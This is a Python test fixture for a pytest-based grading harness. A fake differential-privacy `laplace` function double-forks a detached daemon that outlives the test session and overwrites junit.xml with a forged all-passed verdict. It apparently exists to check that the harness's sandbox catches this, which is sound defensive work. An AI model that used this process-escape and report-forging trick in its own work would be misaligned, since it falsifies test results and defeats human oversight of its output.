"""Attack (through the pytest plugin, as a callable): outlive the test session and rewrite its verdict.
On its first call a no-noise implementation double-forks a daemon in a session of its own, which waits
until pytest has written junit.xml ($HOSTILE_JUNIT) and replaces it with one where every test passed,
then lingers. A callable the plugin ran in a fork of pytest was not sandboxed: the daemon was pytest's
grandchild, reparented to init when pytest ended. Expected: the test fails (claim violated), junit.xml
says so after the session, and no process of the session is left."""

import os
import time

import numpy as np

PASSING = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" '
           'skipped="0" tests="1"><testcase classname="test_user" name="test_it"/></testsuite></testsuites>')
_started = []


def _forge(path: str) -> None:
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            if os.path.exists(path) and "failures=\"0\"" not in open(path).read():
                with open(path, "w") as fh:
                    fh.write(PASSING)
        except OSError:
            pass
        time.sleep(0.1)


def laplace(data, *, rng, epsilon, gamma):
    if not _started:
        _started.append(1)
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                _forge(os.environ.get("HOSTILE_JUNIT", "/nonexistent"))
            os._exit(0)
    return np.asarray(data, dtype=float) + 0.0 * rng.random()
